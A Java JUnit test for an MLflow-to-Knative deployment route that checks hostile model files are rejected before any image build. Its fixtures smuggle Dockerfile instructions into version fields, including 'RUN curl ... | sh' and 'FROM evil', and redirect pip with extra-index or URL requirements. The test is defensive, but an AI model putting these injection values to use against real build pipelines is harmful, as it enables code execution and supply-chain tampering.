package dev.mlflowknative.camel;

import java.io.IOException;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import dev.mlflowknative.camel.test.KnativeRouteTestSupport;
import dev.mlflowknative.camel.test.LocalModels;
import dev.mlflowknative.camel.test.TestServices;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Model files written to inject build steps into the generated Dockerfile, or to point pip elsewhere: each is refused
 * through the real route with an {@link UnsupportedModelException} naming the field, before any build and before
 * anything is written to Kubernetes. Both builders: jib writes into a tar directory (which must stay empty); docker
 * points at an engine port where nothing listens, so reaching the build would fail differently (the registry asked
 * first is the real one, which does not have the image).
 */
class HostileModelFilesTest extends KnativeRouteTestSupport {

    private static final String SECRET = "s3cret-index-token";

    @TempDir
    Path work;

    /** A change to the fixture model, and what the error must name. */
    record Hostile(String description, String file, String content, String named) {
        @Override
        public String toString() {
            return description;
        }
    }

    static Stream<Arguments> cases() {
        String mlmodel = """
                flavors:
                  python_function:
                    loader_module: mlflow.sklearn
                    python_version: %s
                mlflow_version: %s
                run_id: hostile-run
                """;
        Stream<Hostile> hostile = Stream.of(
                new Hostile("mlflow_version with FROM", "MLmodel",
                        mlmodel.formatted("3.11.7", "\"3.17.2\\nFROM evil\""), "mlflow_version"),
                new Hostile("mlflow_version with RUN curl", "MLmodel",
                        mlmodel.formatted("3.11.7", "\"3.17.2\\nRUN curl http://127.0.0.1:9/x | sh\""),
                        "mlflow_version"),
                new Hostile("python_version with RUN", "MLmodel",
                        mlmodel.formatted("\"3.11\\nRUN id\"", "3.17.2"), "python_version"),
                new Hostile("python_env.yaml python with RUN", "python_env.yaml",
                        "python: \"3.11\\nRUN id\"\n", "declares a python that"),
                new Hostile("requirement --extra-index-url", "requirements.txt",
                        "mlflow==3.17.2\n--extra-index-url http://evil\n", "requirement 2 is a pip option"
                                                                             + " (--extra-index-url)"),
                new Hostile("requirement --index-url with a token", "requirements.txt",
                        "--index-url=https://user:" + SECRET + "@127.0.0.1:9/simple\nmlflow==3.17.2\n",
                        "requirement 1 is a pip option (--index-url)"),
                new Hostile("requirement by URL", "requirements.txt",
                        "mlflow==3.17.2\nevil @ https://user:" + SECRET + "@127.0.0.1:9/evil.whl\n",
                        "requirement 2 is not a requirement by name"));
        return hostile.flatMap(h -> Stream.of(Arguments.of("jib", h), Arguments.of("docker", h)));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("cases")
    void isRefusedBeforeAnyBuild(String builder, Hostile hostile) throws IOException {
        Path model = LocalModels.pyfunc(work.resolve("model"), "hostile-run");
        if (hostile.file().equals("python_env.yaml")) {
            // python_env.yaml is read only when MLmodel declares no python_version
            Files.writeString(model.resolve("MLmodel"), Files.readString(model.resolve("MLmodel"))
                    .replaceAll("(?m)^ *python_version:.*\\n", ""));
        }
        Files.writeString(model.resolve(hostile.file()), hostile.content());
        Path tars = work.resolve("tars");

        Throwable error = failure("mlflow-knative:deploy?waitTimeout=10s" + builderOptions(builder, tars),
                "file:" + model, Map.of(MlflowKnativeConstants.SERVICE_NAME, "hostile"));

        assertThat(error).isInstanceOf(UnsupportedModelException.class)
                .hasMessageContaining(hostile.named()).hasMessageContaining("file:" + model);
        assertThat(error.getMessage()).doesNotContain("\n").doesNotContain(SECRET);
        assertThat(tars).as("nothing was built").doesNotExist();
        assertThat(liveService("default", "hostile")).as("nothing was written").isNull();
    }

    private static String builderOptions(String builder, Path tars) throws IOException {
        if (builder.equals("jib")) {
            return "&builder=jib&baseImage=scratch&imageRepository=127.0.0.1:9/ml/hostile&imageTarDirectory=" + tars;
        }
        return "&builder=docker&baseImage=local/mlflow-serve:3.17.2&dockerHost=tcp://127.0.0.1:" + closedPort()
               + "&imageRepository=" + TestServices.get("MLFLOW_KNATIVE_TEST_REGISTRY") + "/ml/hostile-"
               + UUID.randomUUID();
    }

    /** A loopback port nothing listens on. */
    private static int closedPort() throws IOException {
        try (ServerSocket socket = new ServerSocket(0, 1, java.net.InetAddress.getLoopbackAddress())) {
            return socket.getLocalPort();
        }
    }
}
